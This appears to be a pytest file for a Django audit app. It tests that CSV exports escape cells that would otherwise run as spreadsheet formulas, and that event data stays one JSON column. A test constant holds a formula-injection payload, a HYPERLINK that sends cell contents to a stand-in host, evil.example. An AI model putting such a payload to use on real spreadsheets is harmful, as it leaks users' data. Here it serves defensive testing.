"""CSV exports: no cell runs as a spreadsheet formula, and the audit events keep `data` whole in one column."""

import csv
import io
import json

import pytest
from django.db import transaction

from audit.models import AuditEvent
from audit.services import audit_record
from core.csv import safe_cell
from tests.members.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export(client, path, **params) -> list[dict]:
    response = client.get(path, {"format": "csv", **params})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_prefixed(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["plain", "a=b", "", 42, -3, None, "'=already"])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_events_export_prefixes_formula_cells(auditor_client):
    with transaction.atomic():
        audit_record(actor=None, action="probe.formula", object_type=HYPERLINK, object_id="1", data={"x": HYPERLINK})
        audit_record(actor=None, action="probe.formula", object_type="-2+3", object_id="2", case_ref="@SUM(A1)")
    rows = export(auditor_client, "/api/audit/events/", action="probe.formula")
    assert [r["object"] for r in rows] == [f"'{HYPERLINK}:1", "'-2+3:2"]
    assert rows[1]["case_ref"] == "'@SUM(A1)"
    assert json.loads(rows[0]["data"]) == {"x": HYPERLINK}  # inside the JSON column, not at a cell's start


def test_the_events_export_carries_data_as_one_json_column_for_every_kind_of_event(auditor_client):
    officer = UserFactory(roles=["officer"])
    events = [
        ("case.decide", {"outcome": "upheld", "sanctions": [{"code": "warning"}]}),
        ("member.read", {"via": "admin"}),
        ("members.import", {"created": 3, "rejected": 0, "digest": "ab" * 32}),
        ("case.note", {}),
    ]
    with transaction.atomic():
        for action, data in events:
            audit_record(actor=officer, action=action, object_type="probe", object_id=action, data=data)
    rows = export(auditor_client, "/api/audit/events/", actor=officer.username)
    assert list(rows[0]) == ["seq", "at", "actor", "action", "object", "case_ref", "data", "prev_hash", "hash"]
    assert [(r["action"], json.loads(r["data"])) for r in rows] == events
    stored = AuditEvent.objects.filter(actor=officer).order_by("seq")
    assert [r["hash"] for r in rows] == [e.hash for e in stored]


def test_the_json_list_still_gives_data_as_an_object(auditor_client):
    with transaction.atomic():
        audit_record(actor=None, action="probe.json", object_type="probe", object_id="1", data={"a": [1, 2]})
    body = auditor_client.get("/api/audit/events/", {"action": "probe.json"}).json()
    assert body["results"][0]["data"] == {"a": [1, 2]}
